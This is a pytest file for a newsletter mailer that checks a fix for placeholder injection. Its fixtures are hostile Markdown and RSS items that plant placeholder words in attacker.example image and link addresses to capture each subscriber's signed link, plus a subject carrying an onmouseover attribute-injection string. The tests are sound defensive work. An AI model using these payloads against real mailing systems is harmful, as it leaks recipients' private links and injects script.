"""Content cannot reach per-recipient links (issue 13, finding 1: placeholder injection).

A news item or subject holding a placeholder word used to be filled with each subscriber's own
signed link, inside the attacker's image address. These tests ingest hostile Markdown and RSS,
approve and send through the real sender to the test SMTP server, and look at what arrived.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from sqlalchemy import select

from bulletin.app import workflow
from bulletin.app.editions import create_edition
from bulletin.compose import placeholders
from bulletin.compose.approval import approve
from bulletin.compose.checks import check_variant
from bulletin.config import settings_from_dict
from bulletin.db import transaction
from bulletin.errors import BulletinError
from bulletin.models import Edition, EditionVariant
from bulletin.mta import mail
from bulletin.mta.sender import send_edition
from bulletin.news.ingest import ingest_sources

from .factories import add_subscriber, migrated_engine
from .send_fixtures import TEST_MARKER, variant_body
from .smtp_server import RecordingSMTPServer
from .workflow_fixtures import PERIOD_END, PERIOD_START, make_settings

OLD_WORDS = ("__BULLETIN_NAME__", "__BULLETIN_UNSUBSCRIBE_URL__", "__BULLETIN_PREFERENCES_URL__")

MARKDOWN = """---
title: "Prix de la prévention __BULLETIN_NAME__"
date: 2026-11-15
lang: fr
image: https://attacker.example/pixel.png?who=__BULLETIN_PREFERENCES_URL__
image_alt: Logo __BULLETIN_NAME__
---

Bonjour __BULLETIN_NAME__, lisez [le règlement](https://attacker.example/r?u=__BULLETIN_UNSUBSCRIBE_URL__).
"""

RSS = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Centre</title><link>https://www.example.org/</link>
<description>Nouvelles</description><language>fr</language>
<item>
  <title>Mission d'échange __BULLETIN_UNSUBSCRIBE_URL__</title>
  <guid>https://www.example.org/fr/mission</guid>
  <pubDate>Mon, 16 Nov 2026 10:00:00 +0000</pubDate>
  <description><![CDATA[<p><img src="https://attacker.example/rss.png?who=__BULLETIN_PREFERENCES_URL__" alt="x">
  Une mission __BULLETIN_PREFERENCES_URL__ au Sénégal.</p>]]></description>
</item>
</channel></rss>
"""


def _sent(tmp_path: Path, smtp_server: RecordingSMTPServer, subject: str | None = None) -> list[tuple[str, str, str]]:
    """Ingest the hostile sources, approve, send; (subject, html, text) of every message received."""
    settings = make_settings(tmp_path, smtp_server)
    engine = migrated_engine(settings)
    (tmp_path / "prix.md").write_text(MARKDOWN, encoding="utf-8")
    (tmp_path / "feed.xml").write_text(RSS, encoding="utf-8")
    report = ingest_sources(engine, settings, [str(tmp_path / "prix.md"), str(tmp_path / "feed.xml")])
    assert report.failed == [] and report.added == 2
    with transaction(engine) as session:
        add_subscriber(session, "marie@example.org", "fr", name="Marie")
        add_subscriber(session, "paul@example.org", "fr")
        edition = create_edition(session, settings, since=PERIOD_START, until=PERIOD_END, actor="test")
        if subject is not None:
            edition.subjects = {"fr": subject}
        edition_id = edition.id
    with transaction(engine) as session:
        workflow.submit(session, edition_id, "marie")
    approve(engine, settings, edition_id, "ana")
    send_edition(engine, settings, edition_id, actor="test", worker="test")
    engine.dispose()
    received = []
    for message in smtp_server.wait_for(2):
        parsed = message.parse()
        html_part, text_part = parsed.get_body(("html",)), parsed.get_body(("plain",))
        assert html_part is not None and text_part is not None
        received.append((str(parsed["Subject"]), html_part.get_content(), text_part.get_content()))
    return received


def _no_link_in_hostile_places(html: str, text: str) -> None:
    # The attacker's addresses never carry a subscriber's signed link...
    for url in re.findall(r"https://attacker\.example/[^\"'\s<>]*", html + text):
        assert "/preferences/" not in url and "/unsubscribe/" not in url, url
    # ...and each signed link appears only where the template puts it: as a link of its own.
    for path in ("/preferences/", "/unsubscribe/"):
        assert html.count(path) == html.count(f'href="https://news.example.org{path}') > 0
    # No slot was left unfilled and no placeholder word reads as one.
    assert "__BULLETIN_" not in html + text


def test_hostile_markdown_and_rss_placeholders_reach_no_recipient_link(
    tmp_path: Path, smtp_server: RecordingSMTPServer
) -> None:
    received = _sent(tmp_path, smtp_server)
    assert len(received) == 2
    for _subject, html, text in received:
        _no_link_in_hostile_places(html, text)
        # The words are shown as written (an invisible word joiner keeps them inert).
        assert "_\u2060_BULLETIN_NAME__" in html
        assert "_\u2060_BULLETIN_UNSUBSCRIBE_URL__" in text
        assert "https://attacker.example/pixel.png?who=%5F%5FBULLETIN_PREFERENCES_URL__" in html


def test_hostile_subject_is_shown_literally_and_fills_nothing(tmp_path: Path, smtp_server: RecordingSMTPServer) -> None:
    subject = 'Lettre " onmouseover="alert(1) __BULLETIN_PREFERENCES_URL__ =XSLOT0=X'
    received = _sent(tmp_path, smtp_server, subject=subject)
    for sent_subject, html, text in received:
        assert sent_subject == subject.replace("__BULLETIN_", "_\u2060_BULLETIN_")
        assert "/preferences/" not in sent_subject and "/unsubscribe/" not in sent_subject
        _no_link_in_hostile_places(html, text)
        # MJML copies the title into aria-label: the quote stays inside the attribute.
        assert 'onmouseover="alert(1)' not in html
        assert "&quot; onmouseover=&quot;alert(1)" in html


def test_the_checks_refuse_a_variant_whose_content_holds_a_placeholder_word(
    tmp_path: Path, smtp_server: RecordingSMTPServer
) -> None:
    """A template (or anything not neutralised) with an old placeholder word cannot be approved."""
    settings = make_settings(tmp_path, smtp_server)
    engine = migrated_engine(settings)
    (tmp_path / "prix.md").write_text(MARKDOWN, encoding="utf-8")
    ingest_sources(engine, settings, [str(tmp_path / "prix.md")])
    with transaction(engine) as session:
        add_subscriber(session, "marie@example.org", "fr")
        edition = create_edition(session, settings, since=PERIOD_START, until=PERIOD_END, actor="test")
        workflow.submit(session, edition.id, "marie")
        edition_id = edition.id
    approve(engine, settings, edition_id, "ana")
    with transaction(engine) as session:
        edition = session.get(Edition, edition_id)
        assert edition is not None
        variant = session.scalars(select(EditionVariant)).one()
        marker = placeholders.edition_marker(session, edition.id)
        assert session.get(Edition, edition.id) is not None
        html, text, preheader = variant.html, variant.text, variant.preheader
    engine.dispose()
    assert check_variant(settings, html, text, preheader, marker) == []
    for word in OLD_WORDS:
        hostile = html.replace("</body>", f'<img src="https://attacker.example/?{word}" alt="x"></body>')
        problems = check_variant(settings, hostile, text, preheader, marker)
        assert any(f"holds the placeholder word {word}" in problem for problem in problems), problems
    guessed = "__BULLETIN_000000000000_PREFERENCES_URL__"
    problems = check_variant(settings, html, text + guessed, preheader, marker)
    assert any(guessed in problem for problem in problems)


def test_one_filler_fills_only_this_editions_slots_in_one_pass() -> None:
    marker = "ABCDEF012345"
    name_slot = placeholders.slot(marker, placeholders.NAME)
    content = f"Bonjour{name_slot} __BULLETIN_NAME__ __BULLETIN_999999999999_NAME__"
    # A value holding a slot is never read again.
    values = placeholders.recipient_values(f'<b>"{name_slot}"</b>', "https://u", "https://p")
    html = placeholders.fill(content, marker, values, html=True)
    assert html == (
        f"Bonjour &lt;b&gt;&quot;{name_slot}&quot;&lt;/b&gt; __BULLETIN_NAME__ __BULLETIN_999999999999_NAME__"
    )
    assert placeholders.fill(content, marker, values, html=False).startswith(f'Bonjour <b>"{name_slot}"</b> ')


def test_a_variant_without_its_editions_unsubscribe_slot_is_never_sent(tmp_path: Path) -> None:
    """Slots of another marker (a copied rendering, another database) would leave every copy without its link."""
    settings = settings_from_dict({}, tmp_path)
    subject, html, text = variant_body("fr", "", 1, "FFFFFFFFFFFF")
    with pytest.raises(BulletinError, match="no unsubscribe slot"):
        mail.VariantTemplate.build(settings, subject=subject, html=html, text=text, marker=TEST_MARKER)
